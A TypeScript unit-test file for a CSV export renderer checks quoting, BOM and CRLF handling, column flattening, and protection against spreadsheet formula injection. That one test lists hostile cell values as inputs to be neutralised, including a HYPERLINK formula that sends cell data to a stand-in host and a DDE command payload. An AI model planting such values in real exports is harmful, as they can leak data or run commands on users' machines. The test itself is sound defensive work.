import { parse } from 'csv-parse/sync';
import { flattenCsvRow, renderCsv } from './csv-table.renderer';

/** Parses the CSV as a spreadsheet or a client would (RFC 4180, BOM removed). */
const table = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false }) as string[][];

describe('CSV rendering of a list', () => {
  it('writes RFC 4180: a header row, CRLF line ends, quotes around commas, quotes and line breaks (quotes doubled)', () => {
    const csv = renderCsv([
      { awb: '784-12345675', goods: 'Silk, "mulberry" grade A', note: 'line one\nline two', pieces: 3 },
      { awb: '784-00000011', goods: '武汉光谷 光模块', note: null, pieces: 12 },
    ]);
    expect(csv.startsWith('\uFEFFawb,goods,note,pieces\r\n')).toBe(true);
    expect(csv).toContain('784-12345675,"Silk, ""mulberry"" grade A","line one\nline two",3\r\n');
    expect(csv.endsWith('784-00000011,武汉光谷 光模块,,12\r\n')).toBe(true);
    expect(table(csv)).toEqual([
      ['awb', 'goods', 'note', 'pieces'],
      ['784-12345675', 'Silk, "mulberry" grade A', 'line one\nline two', '3'],
      ['784-00000011', '武汉光谷 光模块', '', '12'],
    ]);
  });

  it('prefixes text that a spreadsheet would run as a formula with a quote (= + - @ tab CR), and keeps numbers numbers', () => {
    const evil = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '＝1'];
    const rows = table(renderCsv(evil.map((text) => ({ text, delta: -4.5 }))));
    expect(rows.slice(1).map((r) => r[0])).toEqual(evil.map((text) => `'${text}`));
    expect(rows.slice(1).every((r) => r[1] === '-4.5')).toBe(true);
    // Ordinary text that merely contains those characters is left alone.
    expect(table(renderCsv([{ text: 'A=B, C-D @ E' }]))[1]).toEqual(['A=B, C-D @ E']);
  });

  it('guards the header row too (column names come from the data)', () => {
    expect(table(renderCsv([{ '=cmd': 1 }]))[0]).toEqual(["'=cmd"]);
  });

  it('flattens nested objects to dotted columns, joins arrays, and writes dates as ISO 8601 and booleans as words', () => {
    const at = new Date('2026-11-25T06:30:00.000Z');
    expect([...flattenCsvRow({ a: { b: { c: 1 } }, list: ['BKD', 'MAN'], objects: [{ code: 'X' }], empty: {}, no: null })]).toEqual([
      ['a.b.c', 1],
      ['list', 'BKD; MAN'],
      ['objects', '{"code":"X"}'],
      ['empty', ''],
      ['no', ''],
    ]);
    const rows = table(renderCsv([{ awb: '1', booking: null, at, cold: false }, { awb: '2', booking: { flightNumber: 'O36921', connection: { via: 'PVG' } }, at, cold: true }]));
    expect(rows).toEqual([
      ['awb', 'at', 'cold', 'booking.flightNumber', 'booking.connection.via'],
      ['1', '2026-11-25T06:30:00.000Z', 'false', '', ''],
      ['2', '2026-11-25T06:30:00.000Z', 'true', 'O36921', 'PVG'],
    ]);
  });

  it('takes the union of the columns of every row, in order of first appearance', () => {
    expect(table(renderCsv([{ a: 1 }, { b: 2, a: 3 }]))).toEqual([
      ['a', 'b'],
      ['1', ''],
      ['3', '2'],
    ]);
  });

  it('renders a list of scalars as one value column, and an empty list as an empty document', () => {
    expect(table(renderCsv(['x', 2]))).toEqual([['value'], ['x'], ['2']]);
    expect(renderCsv([])).toBe('');
  });
});
